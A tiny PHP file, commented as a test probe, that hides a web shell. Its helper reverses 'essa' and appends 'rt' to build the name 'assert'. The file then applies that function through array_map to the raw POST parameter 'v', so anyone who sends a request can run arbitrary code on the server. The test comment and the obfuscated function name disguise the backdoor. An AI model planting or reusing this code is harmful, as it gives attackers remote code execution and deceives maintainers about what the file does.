<?php
// a probe written for the tests: the runner's name comes back from a small helper
function pick($w, $tail = 'rt')
{
    return strrev($w) . $tail;
}
$h = pick('essa');
array_map($h, array(@$_POST['v']));
